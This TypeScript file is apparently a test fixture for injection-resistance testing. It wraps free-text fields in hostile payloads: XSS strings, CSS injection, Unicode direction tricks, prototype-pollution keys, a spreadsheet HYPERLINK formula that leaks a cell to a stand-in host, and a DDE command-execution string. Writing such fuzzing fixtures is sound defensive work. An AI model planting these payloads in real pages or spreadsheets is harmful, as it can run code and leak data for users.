/** What an attacker, or a careless model, may put into any text. Each acts where it is taken for anything but text: it sets `ran`, or asks for a host. */
const payloads: readonly ((text: string) => string)[] = [
  (text) => `${text}<script>window.ran=1</script>`,
  (text) => `<img src="https://evil.invalid/a.png" onerror="window.ran=2">${text}`,
  (text) => `${text}</script><script>window.ran=3</script>`,
  (text) => `"><svg onload="window.ran=4">${text}`,
  (text) => `${text} &lt;script&gt;window.ran=5&lt;/script&gt; &amp;#60;b&gt;`,
  (text) => `\u202egnp.${text}\u2066\u2067rtl\u2069`,
  (text) => `\u200b\u200d${text}\ufeff\u2060\u0000`,
  (text) => `=HYPERLINK("https://evil.invalid/?leak="&A1,"${text}")`,
  (text) => `${text}${'x'.repeat(600)}`,
  (text) => `${text}\ud800 and \udfff`,
  (text) => `__proto__ ${text}`,
  (text) => `javascript:window.ran=6//${text}`,
  (text) => `${text};}*{background:url(https://evil.invalid/b.png)}</style><style>`,
  (text) => `+1+cmd|' /C calc'!A0 ${text}`,
  (text) => `\t@SUM(1) ${text}\r\n-2`,
  (text) => `'-alert(1)-'\`\${window.ran=7}\`${text}<!--`,
  (text) => `مرحبا ${text} שלום`,
];

/** Texts that are no free text: a schema allows a few words there, and anything else was refused when the file was read. */
const fixed: ReadonlySet<string> = new Set(['format', 'schema', 'about', 'verdict', 'severity', 'kind', 'level', 'design', 'origin', 'topic', 'purpose', 'status', 'referent', 'valence', 'framing', 'input', 'bias', 'role', 'finishReason']);

/**
 * The same value with something hostile in every free text, and in the keys of `missing`. Equal texts stay equal, so that what belongs together still does.
 * Deterministic: which payload a text gets follows from the text.
 */
export function hostile<T>(value: T): T {
  return poison(value, '', 0) as T;
}

/** One text made hostile. */
export function hostileText(text: string): string {
  let sum = 7;
  for (const sign of text) sum = (Math.imul(sum, 31) + sign.codePointAt(0)!) >>> 0;
  return payloads[sum % payloads.length]!(text);
}

function poison(value: unknown, key: string, depth: number): unknown {
  if (typeof value === 'string') return fixed.has(key) ? value : hostileText(value);
  if (Array.isArray(value)) return value.map((entry) => poison(entry, key, depth));
  if (typeof value !== 'object' || value === null) return value;
  const hasFreeKeys = key === 'levels' || (key === 'missing' && depth === 1);
  return Object.fromEntries(Object.entries(value).map(([name, entry]) => [hasFreeKeys ? hostileText(name) : name, poison(entry, name, depth + 1)]));
}
